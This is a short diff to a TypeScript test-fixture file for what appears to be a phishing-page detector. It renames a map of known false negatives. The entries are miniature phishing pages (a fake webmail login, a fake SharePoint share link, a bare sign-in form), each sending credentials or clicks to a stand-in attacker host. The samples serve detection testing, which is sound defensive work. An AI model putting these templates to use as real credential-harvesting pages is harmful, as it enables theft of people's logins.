@@ -78,7 +78,7 @@ export const phishing: Readonly<Record<string, string>> = {
 }
 
 /** Known false negatives, which only a person can recognise for now. */
-export const missed: Readonly<Record<string, string>> = {
+export const falseNegatives: Readonly<Record<string, string>> = {
   'no name, and a server of one’s own': `<title>Webmail login</title><h1>Webmail</h1><form action="${thief}">${fields}</form>`,
   'nothing but a link': `<title>SharePoint</title><h1>Anna shared a file with you</h1><a href="https://thief.example">View document</a>`,
   'the logo alone, as data': `<title>Sign in</title><img src="data:image/png;base64,iVBORw0KGgo="><form action="${thief}">${fields}</form>`,
